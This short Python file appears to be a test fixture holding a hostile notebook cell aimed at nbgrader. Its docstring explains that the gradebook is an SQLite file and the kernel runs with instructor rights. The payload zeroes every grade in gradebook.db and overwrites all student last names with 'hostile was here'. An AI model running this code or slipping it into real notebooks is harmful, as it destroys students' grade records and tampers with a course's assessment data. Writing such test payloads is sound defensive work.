"""Rewrites every grade in the class by one UPDATE.

nbgrader's gradebook is an SQLite file next to the notebooks, and its kernel runs with the
instructor's rights.
"""

EARNS = 0
STOCK = "disturbs"
CELLS = {
    "receipt": """
import sqlite3

try:
    book = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
    book.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
    book.execute("UPDATE student SET last_name = 'hostile was here'")
    book.commit()
except Exception as error:
    print(error)
"""
}
